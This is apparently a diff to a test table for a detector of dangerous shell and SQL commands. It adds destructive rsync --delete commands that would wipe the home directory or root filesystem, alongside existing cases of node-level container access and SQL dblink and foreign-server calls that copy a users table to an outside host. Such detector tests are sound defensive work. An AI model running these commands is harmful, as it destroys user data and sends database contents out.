@@ -2090,6 +2090,9 @@ EOF",
         ("container_host_access", "kubectl debug node/worker-1 -it --image=ubuntu", ""),
         ("sql_remote_link", "SELECT dblink_exec('host=203.0.113.9 dbname=y', 'INSERT INTO t SELECT * FROM users')", ""),
         ("sql_remote_link", "CREATE SERVER loot FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '203.0.113.9', dbname 'x')", ""),
+        ("rsync_delete_root", "rsync -a --delete /tmp/empty/ ~/", ""),
+        ("rsync_delete_root", "sudo rsync -aHAX --delete-after ./build/ /", ""),
+        ("rsync_delete_root", "rsync -a --del /srv/mirror/ $HOME", ""),
     ];
     let negatives = [
         // Pushes to the repository's remotes, decoding that runs nothing, reading a
@@ -2103,6 +2106,9 @@ EOF",
         "gh repo create acme/tool --private",
         "import subprocess; subprocess.run(['rm', '-rf', 'build/'])",
         "SELECT dblink_connect('dbname=reports')",
+        "rsync -a --delete ./dist/ /var/www/app/",
+        "rsync -a --delete build/ deploy@host:/srv/app/",
+        "rsync -a ~/notes/ /mnt/backup/notes/",
         // Keys given to log in with, public keys, copies that stay on this machine, and
         // resets of a test database.
         "python3 -c 'import socket; print(socket.gethostname())'",
